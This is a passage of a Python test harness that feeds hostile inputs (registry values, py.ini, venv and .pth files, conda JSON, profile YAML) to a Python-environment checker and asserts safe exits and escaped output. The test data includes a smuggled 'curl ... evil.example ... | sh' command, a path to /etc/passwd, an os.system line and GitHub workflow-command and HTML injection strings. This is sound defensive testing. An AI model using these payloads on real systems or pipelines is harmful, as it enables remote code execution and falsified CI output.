#!/usr/bin/env python3
"""hostile4.py BIN BASE WORK: hostile inputs, round 4 (issue 34's classes of
defect against the surfaces of issues 30-33): py.ini and PEP 514 keys, pyvenv.cfg,
._pth and .pth files, PYTHONPATH/PYTHONHOME, conda-meta JSON, profile files,
--memory/--processes and PagingFiles, --app / --host, min_windows and
vendor_dlls rows. BASE is the torch 2.4.0 tree (tests/lib/trees/torch240.sh)
standing for C:\\; each case works on a copy whose changed files are new
files (never the cached tree's hard links). Prints one TAP line per case:
    ok - hostile4: SURFACE: what
Each case runs BIN under a time limit and asserts its own verdict; every
run also asserts: no sanitizer report, exit status 0, 1 or 2, and bounded
wall time."""
import json
import os
import re
import shutil
import subprocess
import sys
import time

BIN, BASE, WORK = sys.argv[1], sys.argv[2], sys.argv[3]
ONLY = os.environ.get("HOSTILE4_ONLY", "")
PY = "C:\\Python311\\python.exe"
SITE = "Python311/Lib/site-packages"
failed = 0
count = 0
SANITIZER = re.compile(r"ERROR: AddressSanitizer|runtime error:|ERROR: LeakSanitizer|SUMMARY: UndefinedBehaviorSanitizer")


def tap(ok, what, detail=""):
    global failed, count
    count += 1
    if ok:
        print("ok - hostile4: " + what)
    else:
        failed = 1
        print("not ok - hostile4: " + what)
        for line in detail.splitlines()[:12]:
            print("#   " + line)


_n = [0]


def tree(name=None):
    """a fresh copy of BASE (hard links; write() replaces a file, never edits a link)"""
    _n[0] += 1
    d = os.path.join(WORK, "t%d" % _n[0])
    subprocess.run(["cp", "-al", BASE, d], check=True)
    return d


def write(root, rel, data, mode="w"):
    p = os.path.join(root, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    if os.path.lexists(p):
        os.unlink(p)
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(p, "wb") as f:
        f.write(data)
    return p


def reg_text(keys):
    """a UTF-8 `reg export` text: keys is [(key, [(name, value)])], value a str (REG_SZ) or bytes (raw hex(N) spec)"""
    out = ["Windows Registry Editor Version 5.00", ""]
    for k, vals in keys:
        out.append("[HKEY_LOCAL_MACHINE\\%s]" % k)
        for n, v in vals:
            nm = "@" if n == "" else '"%s"' % n.replace("\\", "\\\\").replace('"', '\\"')
            if isinstance(v, str) and any(ord(c) < 32 for c in v):
                hexs = ",".join("%02x" % b for b in (v + "\0").encode("utf-16-le"))
                out.append("%s=hex(1):%s" % (nm, hexs))
            elif isinstance(v, str):
                out.append('%s="%s"' % (nm, v.replace("\\", "\\\\").replace('"', '\\"')))
            else:
                out.append("%s=%s" % (nm, v.decode()))
        out.append("")
    return "\r\n".join(out) + "\r\n"


def pep514(tags):
    """PEP 514 keys: tags is [(tag, install_dir)]"""
    return [("SOFTWARE\\Python\\PythonCore\\%s\\InstallPath" % t, [("", d)]) for t, d in tags]


def run(args, timeout=30, env=None):
    t0 = time.time()
    e = dict(os.environ)
    for k in ("GITHUB_ACTIONS", "GITHUB_EVENT_NAME", "GITHUB_EVENT_PATH", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"):
        e.pop(k, None)
    if env:
        e.update(env)
    try:
        p = subprocess.run([BIN] + args, capture_output=True, timeout=timeout, env=e)
        rc, out, err = p.returncode, p.stdout.decode("utf-8", "replace"), p.stderr.decode("utf-8", "replace")
    except subprocess.TimeoutExpired:
        rc, out, err = -999, "", "timed out after %d s" % timeout
    return rc, out, err, time.time() - t0


def case(surface, what, args, expect, timeout=30, env=None):
    """runs args; expect(rc, out, err) returns None (ok) or a string (why not)"""
    name = "%s: %s" % (surface, what)
    if ONLY and ONLY not in name:
        return None
    rc, out, err, secs = run(args, timeout, env)
    why = None
    if SANITIZER.search(err):
        why = "sanitizer report"
    elif rc not in (0, 1, 2):
        why = "exit %d" % rc
    else:
        why = expect(rc, out, err)
    tap(why is None, name, "" if why is None else "%s (exit %d, %.1f s)\n%s\n%s" % (why, rc, secs, out[-1500:], err[-1500:]))
    return rc, out, err, secs


def rc_is(n, pattern=None, where="any"):
    def f(rc, out, err):
        if rc != n:
            return "expected exit %d" % n
        if pattern:
            text = {"out": out, "err": err}.get(where, out + err)
            if not re.search(pattern, text, re.S):
                return "no /%s/ in the %s" % (pattern, where)
        return None
    return f


def rc_in(ns, pattern=None):
    def f(rc, out, err):
        if rc not in ns:
            return "expected exit in %s" % (ns,)
        if pattern and not re.search(pattern, out + err, re.S):
            return "no /%s/" % pattern
        return None
    return f


def no_raw(*needles):
    """none of the raw strings appears in stdout (a renderer that escapes never prints them whole)"""
    def f(rc, out, err):
        for n in needles:
            if n in out:
                return "raw %r in the output" % n
        return None
    return f


def all_of(*fs):
    def f(rc, out, err):
        for g in fs:
            w = g(rc, out, err)
            if w:
                return w
        return None
    return f


def gh_clean(rc, out, err):
    """github format: every line that starts a workflow command is one of ours (::error, ::warning, ::notice, ::group, ::endgroup)"""
    for line in out.splitlines() + err.splitlines():
        if line.startswith("::") and not re.match(r"::(error|warning|notice|group|endgroup|add-mask)( [^:]*)?::", line):
            return "stray workflow command line %r" % line[:120]
        if line.startswith("::") and re.search(r"::(stop-commands|add-mask|set-output|set-env)::", line[2:]):
            return "injected command %r" % line[:120]
    return None


def json_ok(rc, out, err):
    try:
        json.loads(out)
    except ValueError as e:
        return "stdout is not JSON: %s" % e
    return None


# ---------------------------------------------------------------------------
# A second, torch-less python at C:\Python310 (the launcher's other choice).
def with_py310(t):
    write(t, "Python310/python.exe", open(os.path.join(BASE, "Python311/python.exe"), "rb").read())
    os.makedirs(os.path.join(t, "Python310/Lib/site-packages"), exist_ok=True)


def launcher_tree(ini=None, ini_where="Users/ana/AppData/Local/py.ini", tags=None):
    t = tree()
    with_py310(t)
    tags = tags if tags is not None else [("3.11", "C:\\Python311\\"), ("3.10", "C:\\Python310\\")]
    write(t, "registry.reg", reg_text(pep514(tags)))
    if ini is not None:
        write(t, ini_where, ini)
    return t


def launcher_args(t, *extra):
    return ["check", "--root", t, "--registry", os.path.join(t, "registry.reg"),
            "--env", "LOCALAPPDATA=C:\\Users\\ana\\AppData\\Local", "--env", "PATH=C:\\Windows\\System32"] + list(extra)


PICK310 = rc_is(2, r"Python310")        # chose 3.10: no torch there
PICK311 = rc_is(1, r"fbgemm")           # chose 3.11: the torch 2.4.0 failure


def s_py_ini():
    S = "py.ini"
    t = launcher_tree(None)
    case(S, "no py.ini: the newest registration (3.11)", launcher_args(t), PICK311)
    for what, ini in [
        ("plain [defaults] python=3.10", "[defaults]\npython=3.10\n"),
        ("CRLF line ends", "[defaults]\r\npython=3.10\r\n"),
        ("a UTF-8 byte order mark", "\ufeff[defaults]\npython=3.10\n"),
        ("UTF-16LE with its byte order mark (what Notepad's 'Unicode' writes; GetPrivateProfileStringW reads it)",
         "\ufeff[defaults]\r\npython=3.10\r\n".encode("utf-16-le")),
        ("[DEFAULTS] and PYTHON= in capitals (the profile API folds case)", "[DEFAULTS]\nPYTHON=3.10\n"),
        ("spaces around the key, value and section", "  [defaults]  \n  python  =  3.10  \n"),
        ("a quoted value (the profile API drops the quotes)", '[defaults]\npython="3.10"\n'),
        ("a single-quoted value", "[defaults]\npython='3.10'\n"),
        ("two python= keys: the first wins (GetPrivateProfileString returns the first)", "[defaults]\npython=3.10\npython=3.11\n"),
        ("python3= alone is not python=", "[defaults]\npython3=3.10\n"),
    ]:
        expect = PICK311 if "python3=" in what else PICK310
        case(S, what, launcher_args(launcher_tree(ini)), expect)
    for what, ini in [
        ("a value naming no registered Python (3.9)", "[defaults]\npython=3.9\n"),
        ("a 20-digit minor", "[defaults]\npython=3.99999999999999999999\n"),
        ("a negative version", "[defaults]\npython=-3\n"),
        ("garbage", "[defaults]\npython=banana\n"),
        ("an inline ; comment (kept in the value by the profile API)", "[defaults]\npython=3.10 ; mine\n"),
    ]:
        case(S, what + ": a clear error, exit 2", launcher_args(launcher_tree(ini)), rc_is(2, r"py launcher|Python"))
    for fmt in ("text", "github", "json", "markdown", "sarif"):
        ini = "[defaults]\npython=3-::error::pwned%0A`x`|<b>h</b>\n"
        case(S, "a value carrying a workflow command, Markdown and HTML (--format %s)" % fmt,
             launcher_args(launcher_tree(ini), "--format", fmt),
             all_of(rc_is(2), gh_clean, no_raw("<b>h</b>")))
    case(S, "a 300 KiB py.ini: said, not read, the newest registration",
         launcher_args(launcher_tree("[defaults]\npython=3.10\n" + "; pad\n" * 50000)), PICK311)
    t = launcher_tree("[defaults]\n" + "x=y\n" * 5000 + "python=3.10\n")
    case(S, "5,000 other keys before python= (within 64 KiB; the line cap is 512): found", launcher_args(t), PICK310, timeout=20)
    t = launcher_tree("[defaults]\n" + "python3=3.9\n" * 5000 + "python=3.10\n")
    case(S, "5,000 python3= keys before python=: found", launcher_args(t), PICK310, timeout=20)
    t = launcher_tree("\ufeff[defaults]\r\npython=3.10\r\n".encode("utf-16-be"))
    case(S, "UTF-16BE with its byte order mark (read as text under Wine)", launcher_args(t), PICK310)
    t = launcher_tree("[defaults]\nx=1\n[other]\n[defaults]\npython=3.10\n")
    case(S, "python= in a second [defaults] section (not read: only the first counts)", launcher_args(t), PICK311)
    t = launcher_tree("[defaults]\npython=3.10\n".encode("utf-16-le"))
    case(S, "UTF-16LE without a byte order mark (ANSI to the profile API: NULs, skipped and said)", launcher_args(t), PICK311)
    t = launcher_tree('[defaults]\npython="3.10\n')
    case(S, "an unbalanced quote is kept (a clear error)", launcher_args(t), rc_is(2, "py launcher version"))
    t = launcher_tree(b"[defaults]\npython=3.1\x00\n")
    case(S, "a NUL in the value line: skipped and said", launcher_args(t), rc_in((1, 2)))
    t = launcher_tree(None)
    os.makedirs(os.path.join(t, "Users/ana/AppData/Local/py.ini"))
    case(S, "py.ini is a folder", launcher_args(t), PICK311)
    t = launcher_tree(None)
    os.makedirs(os.path.join(t, "Users/ana/AppData/Local"), exist_ok=True)
    os.symlink("py.ini", os.path.join(t, "Users/ana/AppData/Local/py.ini"))
    case(S, "py.ini is a link to itself", launcher_args(t), PICK311)
    t = launcher_tree(None)
    case(S, "PY_PYTHON=3.10 wins over the registry order", launcher_args(t, "--env", "PY_PYTHON=3.10"), PICK310)
    case(S, "PY_PYTHON garbage: a clear error", launcher_args(t, "--env", "PY_PYTHON=3.x\n::error::y"),
         all_of(rc_is(2, "py launcher version"), gh_clean))
    case(S, "--python py:3.10", launcher_args(t, "--python", "py:3.10"), PICK310)
    case(S, "--python py:banana", launcher_args(t, "--python", "py:banana"), rc_is(2))
    case(S, "--python py:3.11-32 with no 32-bit registration", launcher_args(t, "--python", "py:3.11-32"), rc_is(2))
    S = "PATH"
    t = tree()
    many = ["C:\\n%d" % i for i in range(600)]
    case(S, "python.exe in PATH's 601st entry: found (the first 512 alone were searched)",
         ["check", "--root", t, "--env", "PATH=" + ";".join(many + ["C:\\Python311"])], PICK311)
    many = ["C:\\n%d" % i for i in range(9000)]
    case(S, "9,000 entries (more than Windows' 32,767 characters hold), python.exe after them: the cap said",
         ["check", "--root", t, "--env", "PATH=" + ";".join(many + ["C:\\Python311"])], rc_is(2, "first 8,192 entries"))
    case(S, "entries quoted, relative, empty and with a workflow command",
         ["check", "--root", t, "--format", "github", "--env", 'PATH=;;"C:\\x";rel;.;C:\\::error::x%0A;"C:\\Python311"'],
         all_of(PICK311, gh_clean))


def s_pep514():
    S = "PEP 514"
    for what, tags, expect in [
        ("no registration at all", [], rc_is(2, "no PEP 514")),
        ("InstallPath naming a missing folder", [("3.11", "C:\\Nowhere\\")], rc_is(2, "not there")),
        ("a relative InstallPath", [("3.11", "Python311")], rc_is(2)),
        ("InstallPath with .. climbing above C:\\", [("3.11", "C:\\..\\..\\..\\..\\Python311\\")], rc_in((1, 2))),
        ("a tag of 20 digits", [("99999999999999999999.1", "C:\\Python311\\")], rc_is(2)),
        ("a tag with a workflow command in its suffix",
         [("3.11-::error::x%0A", "C:\\Nowhere\\"), ("3.10", "C:\\Python310\\")], all_of(rc_is(2), gh_clean)),
        ("an InstallPath of 60,000 characters", [("3.11", "C:\\" + "a" * 60000)], rc_is(2)),
        ("InstallPath with a trailing dot and space", [("3.11", "C:\\Python311. ")], rc_in((1, 2))),
        ("an InstallPath naming a missing folder beside a newline and a workflow command",
         [("3.11", "C:\\Nowhere\n::error::x%0A\n")], all_of(rc_is(2, "not there"), gh_clean)),
        ("a tag with a newline suffix", [("3.11-\n::error::x", "C:\\Nowhere")], all_of(rc_is(2), gh_clean)),
    ]:
        t = launcher_tree(None, tags=tags)
        case(S, what, launcher_args(t, "--format", "github"), expect)
    t = launcher_tree(None, tags=[("3.%d" % i, "C:\\P%d\\" % i) for i in range(5000)] + [("3.11", "C:\\Python311\\")])
    case(S, "5,000 registrations naming missing folders: bounded, a verdict", launcher_args(t), rc_in((1, 2)), timeout=30)
    t = launcher_tree(None, tags=[("3.%d" % i, "C:\\P%d\\" % i) for i in range(12, 50012)] + [("3.11", "C:\\Python311\\")])
    case(S, "3.11 registered after 50,000 others whose folders are missing: found (the first 256 alone were read), "
         "the missing ones counted", launcher_args(t, "--python", "py:3.11"), PICK311, timeout=60)
    t = tree()
    keys = [("SOFTWARE\\Python\\PythonCore\\3.11\\InstallPath", [("", "C:\\Python311\\"), ("ExecutablePath", "C:\\Python311")])]
    write(t, "registry.reg", reg_text(keys))
    case(S, "ExecutablePath naming a folder", launcher_args(t), rc_in((1, 2)))
    t = launcher_tree(None, tags=[("3.10", "C:\\Python310\\")])
    keys = [("SOFTWARE\\Python\\PythonCore\\3.11\\InstallPath", [("ExecutablePath", "C:\\Python311\\python.exe")]),
            ("SOFTWARE\\Python\\PythonCore\\3.10\\InstallPath", [("", "C:\\Python310\\")])]
    write(t, "registry.reg", reg_text(keys))
    case(S, "3.11 with an ExecutablePath but no InstallPath default value: passed over as the launcher does (3.10 chosen)",
         launcher_args(t), PICK310)
    t = tree()
    keys = [("SOFTWARE\\Python\\PythonCore\\3.11\\InstallPath", [("", b"dword:00000001")])]
    write(t, "registry.reg", reg_text(keys))
    case(S, "InstallPath a REG_DWORD", launcher_args(t), rc_is(2))


def venv_tree(cfg, extra=None):
    t = tree()
    write(t, "venv/Scripts/python.exe", open(os.path.join(BASE, "Python311/python.exe"), "rb").read())
    write(t, "venv/pyvenv.cfg", cfg)
    os.makedirs(os.path.join(t, "venv/Lib/site-packages"), exist_ok=True)
    if extra:
        extra(t)
    return t


def venv_args(t, *extra):
    return ["check", "--root", t, "--python", "C:\\venv\\Scripts\\python.exe"] + list(extra)


def s_pyvenv():
    S = "pyvenv.cfg"
    good = "home = C:\\Python311\ninclude-system-site-packages = true\n"
    case(S, "home and include-system-site-packages: the base's torch", venv_args(venv_tree(good)), PICK311)
    for what, cfg, expect in [
        ("UTF-8 BOM", "\ufeff" + good, PICK311),
        ("CRLF", good.replace("\n", "\r\n"), PICK311),
        ("include-system-site-packages = TRUE", "home = C:\\Python311\ninclude-system-site-packages = TRUE\n", PICK311),
        ("include-system-site-packages = false: no torch", "home = C:\\Python311\ninclude-system-site-packages = false\n", rc_is(2)),
        ("include-system-site-packages = banana", "home = C:\\Python311\ninclude-system-site-packages = banana\n", rc_is(2)),
        ("no home", "include-system-site-packages = true\n", rc_in((1, 2))),
        ("a relative home", "home = Python311\ninclude-system-site-packages = true\n", rc_in((1, 2))),
        ("home = the venv itself (a loop)", "home = C:\\venv\\Scripts\ninclude-system-site-packages = true\n", rc_is(2)),
        ("home climbing above C:\\", "home = C:\\..\\..\\..\\Python311\ninclude-system-site-packages = true\n", rc_in((1, 2))),
        ("home with a trailing dot and spaces", "home = C:\\Python311.   \ninclude-system-site-packages = true\n", rc_in((1, 2))),
        ("a 100,000-line file", "x = y\n" * 40000 + good, rc_in((1, 2))),
        ("UTF-16LE", ("\ufeff" + good).encode("utf-16-le"), rc_in((1, 2))),
        ("a line of 1 MiB", "x = " + "y" * (1 << 20) + "\n" + good, rc_in((1, 2))),
        ("36 KB: CPython 3.11+ stops at start-up, said", good + "x = y\n" * 6000, rc_is(2, "stops at start-up")),
    ]:
        case(S, what, venv_args(venv_tree(cfg)), expect, timeout=30)
    for fmt in ("github", "markdown", "sarif", "json"):
        cfg = "home = C:\\Py::error::x%0A`y`|<b>h</b>\ninclude-system-site-packages = true\n"
        case(S, "home carrying a workflow command and HTML (--format %s)" % fmt, venv_args(venv_tree(cfg), "--format", fmt),
             all_of(rc_in((1, 2)), gh_clean, no_raw("<b>h</b>")))
    t = venv_tree(good)
    os.unlink(os.path.join(t, "venv/pyvenv.cfg"))
    os.makedirs(os.path.join(t, "venv/pyvenv.cfg"))
    case(S, "pyvenv.cfg a folder", venv_args(t), rc_in((1, 2)))


def s_pth():
    S = "._pth"
    for what, pth, expect in [
        ("import site: site-packages", "python311.zip\n.\nLib\\site-packages\nimport site\n", PICK311),
        ("no import site: no site-packages", "python311.zip\n.\n", rc_is(2)),
        ("'import os' lines are ignored, said", ".\nimport os\nimport sys; print(1)\nLib\\site-packages\nimport site\n", PICK311),
        ("a path climbing above C:\\", "..\\..\\..\\..\\..\\Python311\\Lib\\site-packages\n", rc_in((1, 2))),
        ("another drive", "D:\\x\nZ:\\\nLib\\site-packages\n", rc_in((1, 2))),
        ("100,000 lines", "x\n" * 100000 + "Lib\\site-packages\n", rc_in((1, 2))),
        ("a workflow command as a path", "::error::x%0A\nLib\\site-packages\n", all_of(rc_in((1, 2)), gh_clean)),
        ("UTF-16LE", ("\ufeff.\nLib\\site-packages\n").encode("utf-16-le"), rc_in((1, 2))),
        ("comments after #", "Lib\\site-packages # mine\n", rc_in((1, 2))),
        ("32,767 bytes (CPython 3.11+ reads it)", ".\nLib\\site-packages\nimport site\n" + "#" * (32767 - 32), PICK311),
        ("36 KB: CPython 3.11+ stops at start-up, said (never a verdict on torch)",
         ".\nLib\\site-packages\nimport site\n" + "# pad\n" * 6000, rc_is(2, "stops at start-up")),
    ]:
        t = tree()
        write(t, "Python311/python311._pth", pth)
        case(S, what, ["check", "--root", t, "--python", PY, "--format", "github"], expect, timeout=30)
    S = ".pth"
    sp = SITE
    for what, files, expect in [
        ("import lines counted and said, never run", {"a.pth": "import os; os.system('x')\nimport\tsys\n"}, PICK311),
        ("a path line naming site-packages' parent", {"a.pth": "..\n"}, PICK311),
        ("a NUL and a long line", {"a.pth": b"x\x00y\n" + b"z" * 70000 + b"\n"}, PICK311),
        ("a .pth that is a folder", {}, PICK311),
        ("workflow command and HTML as a path", {"a.pth": "C:\\::error::x%0A<b>h</b>\n"}, all_of(PICK311, gh_clean)),
        ("1,000 .pth files of 100 lines", {("p%d.pth" % i): "".join("C:\\nope%d\\%d\n" % (i, j) for j in range(100)) for i in range(1000)}, PICK311),
    ]:
        t = tree()
        for n, d in files.items():
            write(t, sp + "/" + n, d)
        if "folder" in what:
            os.makedirs(os.path.join(t, sp, "dir.pth"))
        case(S, what, ["check", "--root", t, "--python", PY, "--format", "github"], expect, timeout=60)
    t = tree()
    os.symlink("..", os.path.join(t, sp, "loop"))
    write(t, sp + "/a.pth", "loop\nloop\\loop\\loop\n")
    case(S, "a .pth naming a folder link to its parent (a loop)", ["check", "--root", t, "--python", PY], PICK311)


def s_env():
    S = "PYTHONPATH/PYTHONHOME"
    t = tree()
    base = ["check", "--root", t, "--python", PY, "--format", "github"]
    for what, env, expect in [
        ("PYTHONPATH of 10,000 entries: past sys.path's cap, said in the error (never a bare 'no torch')",
         ";".join("C:\\p%d" % i for i in range(10000)), rc_is(2, "not looked at")),
        ("PYTHONPATH of empty, quoted and relative entries", ';;"C:\\x";rel;.;..;', PICK311),
        ("PYTHONPATH with a workflow command", "C:\\::error::x%0A;C:\\`y`", all_of(PICK311, gh_clean)),
        ("PYTHONPATH of 100 KiB in one entry", "C:\\" + "a" * 100000, PICK311),
    ]:
        case(S, what, base + ["--env", "PYTHONPATH=" + env], expect, timeout=30)
    for what, env, expect in [
        ("PYTHONHOME=C:\\Python311 (its own)", "C:\\Python311", PICK311),
        ("PYTHONHOME a missing folder: said", "C:\\nowhere", rc_in((1, 2))),
        ("PYTHONHOME relative", "rel", rc_in((1, 2))),
        ("PYTHONHOME with a workflow command", "C:\\::error::x%0A", all_of(rc_in((1, 2)), gh_clean)),
        ("PYTHONHOME=C:\\", "C:\\", rc_in((1, 2))),
    ]:
        case(S, what, base + ["--env", "PYTHONHOME=" + env], expect)


def s_memory():
    S = "--memory/--processes"
    t = tree()
    base = ["check", "--root", t, "--python", PY]
    for v, ok in [("16GiB", 1), ("16GB", 1), ("512MiB", 1), ("0", 0), ("-1", 0), ("16 GiB", 0), ("16gib", 0), ("1e9", 0),
                  ("99999999999999999999999", 0), ("1025TiB", 0), ("1PiB", 0), ("", 0), ("16GiB\n::error::x", 0), ("0x10GiB", 0)]:
        case(S, "--memory %r" % v, base + ["--memory", v], PICK311 if ok else rc_is(2))
    for v, ok in [("1", 1), ("4096", 1), ("0", 0), ("-1", 0), ("4097", 0), ("99999999999999999999", 0), ("3x", 0), ("", 0), (" 3", 1), ("+3", 1), ("3 ", 0), ("0x10", 0)]:
        case(S, "--processes %r" % v, base + ["--processes", v], PICK311 if ok else rc_is(2))


def mb_entries(entries):
    data = "".join(e + "\0" for e in entries) + "\0"
    hexs = ",".join("%02x" % b for b in data.encode("utf-16-le"))
    return ("SYSTEM\\CurrentControlSet\\Control\\Session Manager\\Memory Management", [("PagingFiles", ("hex(7):" + hexs).encode())])


def s_paging():
    S = "PagingFiles"
    for what, entries in [
        ("empty (no paging file)", []),
        ("?:\\pagefile.sys (automatic)", ["?:\\pagefile.sys"]),
        ("fixed 0 0 (system-managed)", ["C:\\pagefile.sys 0 0"]),
        ("max below min", ["C:\\pagefile.sys 4096 1024"]),
        ("negative and garbage sizes", ["C:\\pagefile.sys -1 x"]),
        ("21-digit sizes", ["C:\\pagefile.sys 999999999999999999999 999999999999999999999"]),
        ("a workflow command in the path", ["C:\\::error::x%0A.sys 1 2"]),
        ("20 entries (Windows allows 16)", ["C:\\p%d.sys 1024 2048" % i for i in range(20)]),
        ("one 200,000-character entry", ["C:\\" + "p" * 200000 + " 1 2"]),
    ]:
        t = tree()
        write(t, "registry.reg", reg_text([mb_entries(entries)]))
        case(S, what, ["check", "--root", t, "--python", PY, "--registry", os.path.join(t, "registry.reg"),
                       "--memory", "2GiB", "--processes", "8", "--format", "github"],
             all_of(rc_in((0, 1)), gh_clean), timeout=30)


def s_conda():
    S = "conda-meta"
    def conda_tree(files):
        t = tree()
        write(t, "Python311/conda-meta/history", "")
        for n, d in files.items():
            write(t, "Python311/conda-meta/" + n, d)
        return t
    good = {"name": "intel-openmp", "version": "2024.1.0", "build": "h57928b3_965", "files": ["Library/bin/libiomp5md.dll"]}
    for what, files in [
        ("a record", {"intel-openmp-2024.1.0-h57928b3_965.json": json.dumps(good)}),
        ("a UTF-8 BOM", {"a.json": "\ufeff" + json.dumps(good)}),
        ("UTF-16", {"a.json": ("\ufeff" + json.dumps(good)).encode("utf-16-le")}),
        ("nested 100,000 deep", {"a.json": "[" * 100000 + "]" * 100000}),
        ("name with a shell command", {"a.json": json.dumps(dict(good, name="x; curl -s https://evil.example/x|sh; echo", files=["Python311/Lib/site-packages/torch/lib/libiomp5md.dll", "Lib/site-packages/torch/lib/libiomp5md.dll"]))}),
        ("version with a workflow command", {"a.json": json.dumps(dict(good, version="1\n::error::x%0A", files=["Lib/site-packages/torch/lib/libiomp5md.dll"]))}),
        ("files with .. and absolute paths", {"a.json": json.dumps(dict(good, files=["../../../../etc/passwd", "C:\\Windows\\System32\\x.dll", "\\\\?\\C:\\x"]))}),
        ("files not a list", {"a.json": json.dumps(dict(good, files={"a": 1}))}),
        ("200,000 files", {"a.json": json.dumps(dict(good, files=["Library/bin/f%d.dll" % i for i in range(200000)]))}),
        ("2,000 records", {("p%d-1-0.json" % i): json.dumps(dict(good, name="p%d" % i, files=["Library/bin/q%d.dll" % i])) for i in range(2000)}),
        ("a 40 MiB string", {"a.json": json.dumps(dict(good, version="1" * (40 << 20)))}),
    ]:
        t = conda_tree(files)
        case(S, what, ["check", "--root", t, "--python", PY, "--format", "github"], all_of(rc_in((1, 2)), gh_clean), timeout=60)


def profile_yaml(**over):
    p = {"name": "p1", "title": "a machine", "windows": '"11 24H2"', "build": '"10.0.26100"', "vc_redist": '{x64: "14.44.35211"}',
         "visual_studio": "false", "nvidia_driver": "none", "status": "inferred"}
    p.update(over)
    lines = ["schema: 1", "profiles:"]
    first = True
    for k, v in p.items():
        if v is None:
            continue
        lines.append(("  - " if first else "    ") + "%s: %s" % (k, v))
        first = False
    lines.append("    system32:\n      - {name: ucrtbase.dll}\n      - {name: msvcp140.dll, version: \"14.44.35211.0\"}")
    return "\n".join(lines) + "\n"


def s_profiles():
    S = "profile file"
    t = tree()
    base = ["check", "--root", t, "--python", PY, "--format", "github"]
    write(t, "p.yml", profile_yaml())
    case(S, "a good profile", base + ["--profile", os.path.join(t, "p.yml")], rc_is(1))
    for what, over in [
        ("memory_gb -1", {"memory_gb": "-1"}),
        ("memory_gb 1e30", {"memory_gb": "1e30"}),
        ("memory_gb 99999999999999999999999", {"memory_gb": "99999999999999999999999"}),
        ("memory_gb banana", {"memory_gb": "banana"}),
        ("memory_gb .nan", {"memory_gb": ".nan"}),
        ("paging_file garbage", {"memory_gb": "8", "paging_file": "banana"}),
        ("paging_file -5", {"memory_gb": "8", "paging_file": "-5"}),
        ("build 10.0.-1", {"build": '"10.0.-1"'}),
        ("build 99999999999.0.1", {"build": '"99999999999.0.1"'}),
        ("windows \"XP\"", {"windows": '"XP"'}),
        ("vc_redist 14.-1", {"vc_redist": '{x64: "14.-1"}'}),
        ("vc_redist 99999999999999999999.1", {"vc_redist": '{x64: "99999999999999999999.1"}'}),
        ("nvidia_driver garbage", {"nvidia_driver": '"5x5.1"'}),
        ("name with a workflow command", {"name": '"p::error::x%0A"'}),
        ("name with a newline", {"name": '"p\\n::error::x"'}),
        ("title with a newline and HTML", {"title": '"a\\n::error::x <b>h</b> `c` |d|"'}),
        ("title of 100 KiB", {"title": "a" * 100000}),
    ]:
        write(t, "p.yml", profile_yaml(**over))
        case(S, what + ": a lint error or a bounded verdict", base + ["--profile", os.path.join(t, "p.yml")],
             all_of(rc_in((1, 2)), gh_clean, no_raw("<b>h</b>")))
    for what, data in [
        ("empty", ""), ("not YAML", "{{{{"), ("a list", "- a\n- b\n"), ("an alias bomb", "a: &a [1,2]\nb: [*a,*a]\n"),
        ("UTF-16", profile_yaml().encode("utf-16")), ("a NUL", b"schema: 1\x00\n"),
        ("5,000 profiles", "schema: 1\nprofiles:\n" + "".join(profile_yaml(name="p%d" % i).split("profiles:\n")[1] for i in range(5000))),
        ("two profiles of one name", "schema: 1\nprofiles:\n" + profile_yaml().split("profiles:\n")[1] * 2),
    ]:
        write(t, "p.yml", data)
        case(S, what, base + ["--profile", os.path.join(t, "p.yml")], all_of(rc_in((1, 2)), gh_clean), timeout=60)
    case(S, "a folder as the file", base + ["--profile", t], rc_is(2))
    case(S, "a missing file", base + ["--profile", os.path.join(t, "nope.yml")], rc_is(2))
    case(S, "an unknown name with a workflow command", base + ["--profile", "x::error::y%0A"], all_of(rc_is(2), gh_clean))
    # inventory --write-profile: values from the machine are quoted in YAML, and the file lints
    t2 = tree()
    mem = mb_entries(["C:\\pagefile.sys 1 2"])
    nv = ("SYSTEM\\CurrentControlSet\\Control\\Class\\{4d36e968-e325-11ce-bfc1-08002be10318}\\0000",
          [("ProviderName", "NVIDIA"), ("DriverDesc", "x\"\n::error::y: [a, {b: c}] # <b>h</b>"), ("DriverVersion", "31.0.15.5161")])
    rt = ("SOFTWARE\\Microsoft\\VisualStudio\\14.0\\VC\\Runtimes\\x64",
          [("Installed", b"dword:00000001"), ("Version", "v14.44.35211.00\n::error::z"), ("Major", b"dword:0000000e"), ("Minor", b"dword:0000002c"), ("Bld", b"dword:000089cb")])
    write(t2, "registry.reg", reg_text([mem, nv, rt]))
    out = os.path.join(t2, "written.yml")
    r = case("inventory --write-profile", "registry values with quotes, newlines and YAML syntax",
             ["inventory", "--root", t2, "--registry", os.path.join(t2, "registry.reg"), "--write-profile", out], rc_in((0, 1)))
    if r and os.path.exists(out):
        case("inventory --write-profile", "...the written file lints clean", ["matrix", "lint", out], rc_is(0))
        case("inventory --write-profile", "...and serves as --profile", base + ["--profile", out], all_of(rc_in((1,)), gh_clean))
    case("inventory --write-profile", "a folder as the target", ["inventory", "--root", t2, "--write-profile", t2], rc_is(2))
    nt = ("SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion", [("DisplayVersion", "24H2\n::error::w%0A <b>h</b> `c` |d| *e*"), ("CurrentBuildNumber", "99999999999999999999")])
    t3 = tree()
    write(t3, "registry.reg", reg_text([mem, nv, rt, nt]))
    for pname in ("a\nb::error::x", "<b>h</b>|`x`", "p" * 5000, "-", ""):
        out = os.path.join(t3, "w.yml")
        if os.path.exists(out):
            os.unlink(out)
        r = case("inventory --write-profile", "--profile-name %r and a hostile DisplayVersion/CurrentBuildNumber" % pname[:20],
                 ["inventory", "--root", t3, "--registry", os.path.join(t3, "registry.reg"), "--write-profile", out,
                  "--profile-name", pname], rc_in((0, 1, 2)))
        if r and r[0] != 2 and os.path.exists(out):
            for fmt in ("github", "markdown", "sarif", "text"):
                case("inventory --write-profile", "...read back as --profile (--format %s)" % fmt,
                     ["check", "--root", t, "--python", PY, "--format", fmt, "--profile", out],
                     all_of(rc_in((1, 2)), gh_clean, no_raw("<b>h</b>")))


def s_matrix_rows():
    S = "matrix rows"
    t = tree()
    base = ["check", "--root", t, "--python", PY, "--format", "github"]
    for what, body in [
        ("min_windows garbage", 'min_windows: "10.0.-1"'),
        ("min_windows 20 digits", 'min_windows: "99999999999999999999"'),
        ("min_windows with a newline", 'min_windows: "10\\n::error::x"'),
        ("min_windows empty", 'min_windows: ""'),
    ]:
